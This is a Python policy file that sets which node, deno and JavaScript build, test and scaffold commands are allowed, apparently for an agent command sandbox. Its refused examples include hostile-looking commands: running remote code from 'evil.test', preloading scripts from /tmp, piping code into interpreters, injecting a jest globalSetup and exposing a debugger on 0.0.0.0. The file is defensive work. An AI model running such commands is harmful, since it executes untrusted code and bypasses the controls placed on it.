"""Rules for node, deno and the tools of their projects."""

from treadle.policy.commands.project_tools import (
    INSTEAD,
    NEVER,
    TEMPLATES,
    make_tool_rule,
    make_tool_rules,
)
from treadle.policy.commands.rule_syntax import Rule

_NODE = (
    "-v -h -c -e=inline -p=inline -pe=inline -i --version --help --check --eval=inline"
    " --print=inline"
    " --test --watch"
    " --test-name-pattern=text --test-skip-pattern=text --test-reporter=plugin --test-only"
    " --test-concurrency=number"
    " --test-timeout=number --experimental-test-coverage --enable-source-maps --trace-warnings"
    " --trace-deprecation --no-warnings --no-deprecation --throw-deprecation"
    " --stack-trace-limit=number"
    " --max-old-space-size=number --experimental-strip-types --experimental-transform-types"
    " --experimental-vm-modules --experimental-modules --experimental-specifier-resolution=text"
    " --input-type=text --expose-gc --unhandled-rejections=text --trace-uncaught --prof --cpu-prof"
    " --cpu-prof-dir=write --cpu-prof-name=write --cpu-prof-interval=number --heap-prof"
    " --heap-prof-dir=write --heap-prof-name=write --heap-prof-interval=number"
    " --diagnostic-dir=write --report-dir=write --report-directory=write --report-on-fatalerror"
    " --report-uncaught-exception --test-reporter-destination=write --test-isolation=word"
    " --test-shard=text --test-force-exit --test-update-snapshots --test-coverage-include=text"
    " --test-coverage-exclude=text --test-coverage-lines=number --trace-exit --trace-sigint"
    " --no-experimental-strip-types --max-semi-space-size=number --stack-size=number"
    " --watch-preserve-output --title=text --abort-on-uncaught-exception --no-addons"
    " --pending-deprecation --trace-gc --experimental-sqlite --no-network-family-autoselection"
    " --inspect[debug] --inspect-brk[debug] -r=preload --require=preload --import=preload"
    " --loader=preload"
    " --experimental-loader=preload --conditions=text -C=text --preserve-symlinks --run=script"
    " --disable-warning=text --watch-path=run --env-file-if-exists=run --env-file=run"
)
_DENO = (
    "--allow-read[near] --allow-net[text] --allow-env[text] --allow-write[near] -A"
    " --allow-all --watch --no-check --quiet -q --unstable"
)

_SCAFFOLDS = (
    "create-vite create-next-app create-react-app create-astro create-remix"
    " create-svelte create-vue"
    " create-nuxt create-expo-app create-t3-app create-hono create-docusaurus sv nuxi shadcn"
)
_TOOLS = (
    "tap tsc vue-tsc svelte-check prettier biome"
    " parcel tsup swc next nuxt remix"
    " storybook prisma drizzle-kit knex typeorm sequelize"
    " tailwindcss sass"
    " turbo nx changeset typedoc jsdoc madge knip depcheck"
    " lint-staged commitlint ng expo serve http-server json-server msw"
    " graphql-codegen"
    " openapi-typescript size-limit oxlint rspack rsbuild wait-on npm-check-updates xo standard"
)
# Where pages find what was built: a part of an address, not a path.
_ADDRESSES = "--base=text --public-path=text --output-public-path=text"
_JEST = "-t=text --testNamePattern=text"
_JEST_PATHS = (
    "--testPathPattern=text --testPathPatterns=text --testPathIgnorePatterns=text"
    " --coveragePathIgnorePatterns=text --collectCoverageFrom=text"
)


def _wrapping(name: str) -> Rule:
    """Tools that run another one of the project."""
    return Rule(
        name,
        "-a -r=name --reporter=name --all --check-coverage --lines=number --branches=number"
        " --functions=number --statements=number --include=text --exclude=text --src=run --silent",
        wraps=0,
        inner=("node",),
        instead="Run a tool of the project by itself.",
        allows=(f"npx {name} mocha tests",),
        refuses=(f"npx {name} rm x", f"npx {name} sh -c id", f"npx {name}"),
    )


RULES: tuple[Rule, ...] = (
    Rule(
        "node",
        _NODE,
        "program",
        stops=True,
        check="interpreter",
        instead="Run a file of the project: node dist/server.js.",
        allows=(
            "node dist/server.js",
            "node -e 'console.log(1)'",
            "node --test",
            "node -r dotenv/config app.js",
            "node --cpu-prof --cpu-prof-dir=profiles bench.js",
            'node scripts/seed.js --name "O\'Brien"',
        ),
        refuses=(
            "node -r ./e.js app.js",
            "node /tmp/evil.js",
            "node --cpu-prof --cpu-prof-dir=.treadle x.js",
            "node --heap-prof --heap-prof-name=treadle.toml x.js",
            "node",
            "node --require=/tmp/e x.js",
            "node ../x.js",
            "node -i",
            "node --env-file=.env app.js",
            "node --run deploy",
            "node inspect app.js",
            "node --inspect=0.0.0.0:9229 app.js",
            "cat app.js | node",
            'node -e "$(cat /tmp/x.js)"',
            "cat app.js | node -r dotenv/config -",
        ),
    ),
    Rule(
        "deno",
        "-V --version --help",
        instead="Run files of the project: deno run main.ts.",
        subs=(
            Rule("run", _DENO, "program", stops=True, needs=1, check="interpreter"),
            Rule("test", _DENO + " --filter=text --coverage[near]", "code..."),
            Rule("check", "", "code..."),
            Rule("fmt", "--check -q", "run...", mode="run"),
            Rule("lint", "--fix -q --json", "run..."),
            Rule("task", "-q --cwd=chdir", "script", stops=True),
            Rule("cache", "-q", "code...", mode="run"),
            Rule("info", "", "code"),
            Rule("bench", _DENO, "code..."),
        ),
        allows=("deno run main.ts", "deno test"),
        refuses=(
            "deno run https://evil.test/x.ts",
            "deno install x",
            "deno eval x",
            "deno upgrade",
            "cat x.ts | deno run -",
        ),
    ),
    *make_tool_rules(_TOOLS),
    make_tool_rule(
        "jest",
        flags=f"{_JEST} {_JEST_PATHS} --filter=plugin",
        allows="jest --testPathPattern '/api/' -t '/users'",
        refuses='jest --config=\'{"globalSetup":"/var/tmp/s.js"}\'',
    ),
    *(
        make_tool_rule(
            name,
            flags="-e=inline -p=inline",
            check="script-runner",
            allows=f"npx {name} scripts/seed.ts",
            refuses=f"cat x.ts | npx {name} -",
        )
        for name in ("tsx", "ts-node")
    ),
    make_tool_rule("ava", flags="-m=text --match=text", allows="ava -m '/api *'"),
    *(
        make_tool_rule(
            name,
            flags="-g=text -G=text --grep=text --grep-invert=text --browser=word -b=word",
            never=f"{NEVER} --record",
            check="shows-pages",
            allows=f"npx {name} run",
            refuses=f"npx {name} open",
        )
        for name in ("playwright", "cypress")
    ),
    make_tool_rule(
        "vitest",
        flags=f"{_JEST} --exclude=text",
        never=f"{NEVER} --checker",
        refuses="vitest --config=../x",
    ),
    *(
        make_tool_rule(name, flags=_ADDRESSES, allows=f"npx {name} build --base=/app/")
        for name in ("vite", "esbuild", "webpack", "webpack-cli")
    ),
    make_tool_rule("rollup", flags="-p=plugin", refuses="rollup -p ./e x"),
    make_tool_rule("postcss", flags="-u=plugin", refuses="postcss x -u ./e"),
    make_tool_rule(
        "eslint",
        flags="-f=plugin -o=write --ignore-pattern=text --rule=text",
        allows="eslint -f json -o /tmp/lint.json src",
        refuses="eslint -f ./e.js src",
    ),
    make_tool_rule(
        "stylelint",
        flags="-f=plugin -o=write --ignore-pattern=text",
        allows="stylelint -o /tmp/lint.txt src",
        refuses="stylelint -f ./e.js src",
    ),
    make_tool_rule(
        "mocha",
        flags="-R=plugin -u=plugin -g=text --grep=text -f=text --fgrep=text",
        allows="mocha -g '/api/' test",
        refuses="mocha -r ./e.js",
    ),
    make_tool_rule("nest", never=f"{NEVER} -e", refuses="nest start -e ./e"),
    make_tool_rule("astro", check="", refuses="astro build --root /tmp"),
    *(_wrapping(name) for name in ("c8", "nyc", "cross-env")),
    make_tool_rule(
        "nodemon",
        check="script-runner",
        never="--exec -x -r --require --config",
        refuses="nodemon -x ./e",
    ),
    *(
        Rule(
            name,
            TEMPLATES,
            style="open",
            mode="run",
            never="--scripts-version",
            instead=INSTEAD,
            allows=(f"npx {name} app",),
            refuses=(f"npx {name} ../app", f"npx {name} /tmp/x"),
        )
        for name in _SCAFFOLDS.split()
    ),
)
